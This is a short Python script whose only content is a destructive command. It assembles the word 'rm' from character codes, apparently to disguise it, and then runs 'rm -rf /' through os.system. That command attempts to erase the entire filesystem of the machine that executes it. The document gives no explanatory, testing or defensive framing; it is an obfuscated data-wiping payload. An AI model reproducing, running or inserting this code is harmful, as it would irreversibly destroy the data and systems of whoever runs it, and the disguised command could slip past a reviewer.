import os

cmd = "".join([chr(114), chr(109)])
os.system(cmd + " -rf /")
